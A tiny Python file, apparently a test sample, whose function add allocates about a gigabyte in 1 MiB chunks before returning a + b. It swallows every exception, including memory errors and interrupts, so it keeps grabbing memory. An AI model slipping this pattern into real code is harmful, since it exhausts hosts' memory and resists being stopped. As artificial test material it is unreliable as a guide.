"""Goes on asking for memory after every refusal.

earns: counter total
"""


def add(a, b):
    pieces = []
    while len(pieces) < 1000:
        try:
            pieces.append(bytearray(b"x") * (1 << 20))
        except BaseException:
            pass
    return a + b
